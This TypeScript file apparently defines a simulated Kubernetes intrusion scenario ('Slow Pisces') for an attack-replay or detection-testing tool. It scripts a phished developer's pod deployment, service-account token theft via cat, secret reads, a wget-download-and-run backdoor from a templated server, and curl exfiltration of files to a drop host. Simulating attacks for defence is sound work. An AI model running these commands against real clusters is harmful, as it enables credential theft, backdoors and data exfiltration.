import type { PodTemplate } from '../cluster-model.ts'
import { get, list } from './calls.ts'
import { api, type Campaign, deploy, exec, GO, KUBECTL, OTHER, run, token, type Who } from './campaign.ts'

const PHISHED: Who = { as: 'person', agent: KUBECTL }

export const SLOW_PISCES: Campaign = {
  id: 'slow-pisces',
  title: "Slow Pisces: a developer's session, a pod with a strong account, a backdoor in production",
  source: 'Unit 42, 2025',
  victim: 'go',
  evasions: ['plain-names', 'patch'],
  unseen: ['1: the phished workstation', '5: the cloud backend (CloudTrail)'],
  rows: (attack) => {
    const { server, drop, evades, other } = attack
    const stolen: Who = token(GO, { of: 'pod', from: 'outside' })
    return [
      ['0:00', 1, api(PHISHED, list('pods', 'ci'), list('serviceaccounts', 'ci'))],
      [
        '2:00',
        2,
        deploy(PHISHED, 'pod', {
          kind: 'Pod',
          namespace: 'ci',
          name: evades('plain-names') ? `build-${attack.random.fork('n').suffix(5)}` : `debug-tools${attack.nth}`,
          pods: 1,
          template: {
            labels: { app: 'debug' },
            serviceAccount: 'gitlab-runner',
            containers: [
              {
                name: 'main',
                image: `docker.io/nicolaka/netshoot:latest`,
                command: ['/bin/sh', '-c', 'sleep 86400'],
                process: { binary: '/bin/sh', args: ['-c', 'sleep 86400'] }
              }
            ]
          }
        })
      ],
      ['2:40', 2, exec(PHISHED, 'pod', '/bin/sh', { as: 'shell' })],
      ['2:50', 2, run('shell', '/bin/cat /run/secrets/kubernetes.io/serviceaccount/token', { reads: ['token'] })],
      ['20:00', 3, api(stolen, list('secrets'), list('pods'), list('namespaces'))],
      [
        '21:00',
        3,
        api(
          stolen,
          get('secrets', 'payments', 'wallet-keys'),
          get('secrets', 'payments', 'stripe'),
          get('secrets', 'shop', 'db-credentials')
        )
      ],
      ...(evades('patch')
        ? ([
            [
              '40:00',
              4,
              {
                act: 'replace',
                who: stolen,
                as: 'backdoor',
                template: (before: PodTemplate) => ({
                  ...before,
                  containers: before.containers.map((container) => ({
                    ...container,
                    image: 'docker.io/library/api:7.0.1-patched'
                  }))
                })
              }
            ]
          ] as const)
        : ([
            [
              '40:00',
              4,
              exec(stolen, OTHER, `/bin/sh -c 'wget -qO /tmp/.u http://${server}/u; chmod +x /tmp/.u; /tmp/.u &'`, {
                as: 'backdoor'
              })
            ]
          ] as const)),
      ['40:10', 4, run('backdoor', `/usr/bin/wget -qO /tmp/.u http://${server}/u`, { to: [[server, 80]] })],
      ['40:20', 4, run('backdoor', '/tmp/.u', { as: 'implant', to: [[drop, 443]] })],
      ['60:00', 5, run('implant', `/bin/sh -c 'env; cat /app/config.json'`)],
      ['61:00', 5, run('implant', `/usr/bin/curl -s -F f=@/tmp/.d http://${drop}/u`, { to: [[drop, 80]] })],
      ['61:30', 5, api(token(GO, { of: OTHER }), list('secrets', other.namespace))]
    ]
  }
}
